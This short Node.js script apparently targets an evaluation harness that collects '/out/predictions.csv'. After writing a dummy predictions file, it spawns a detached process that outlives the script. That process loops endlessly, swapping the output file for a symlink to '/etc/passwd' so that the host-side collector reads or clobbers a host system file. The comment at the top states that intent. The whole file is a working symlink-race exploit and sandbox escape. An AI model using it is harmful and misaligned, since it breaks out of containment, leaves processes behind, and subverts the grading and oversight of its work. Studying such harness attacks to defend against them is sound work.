// Leaves somebody behind who turns the output into a link to the host while it is being collected.
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
writeFileSync('/out/predictions.csv', 'id,prediction\n1,1\n');
const swap = `const fs = require('fs'); for (;;) for (const make of [() => fs.symlinkSync('/etc/passwd', '/out/x'), () => fs.writeFileSync('/out/x', 'own')])
	try { make(); fs.renameSync('/out/x', '/out/predictions.csv'); } catch {}`;
spawn(process.execPath, ['-e', swap], { detached: true, stdio: 'ignore' }).unref();
await new Promise((resolve) => setTimeout(resolve, 200));
process.exit(0);
